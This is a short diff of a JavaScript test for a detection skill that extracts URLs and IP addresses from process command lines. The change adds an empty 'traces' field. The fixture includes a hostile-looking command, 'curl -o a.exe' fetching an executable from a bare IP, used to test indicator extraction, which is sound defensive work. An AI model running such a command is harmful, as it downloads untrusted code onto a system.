@@ -69,7 +69,8 @@ test('only outer addresses and whole links of harmful commands are followed, wha
     'curl -o a.exe http://185.38.114.66/a.exe http://[/b.exe',
   ]
   const events = commands.map((ProcessCommandLine) => event(0, { ProcessCommandLine }))
-  const found = skill?.discovers?.({ input: { machine: 'pc-17' }, output: { events, truncated: false } }) ?? []
+  const found =
+    skill?.discovers?.({ input: { machine: 'pc-17' }, output: { events, traces: [], truncated: false } }) ?? []
   assert.deepEqual(
     found.map(({ observable }) => observable.value),
     ['http://185.38.114.66/a.exe', '185.38.114.66'],
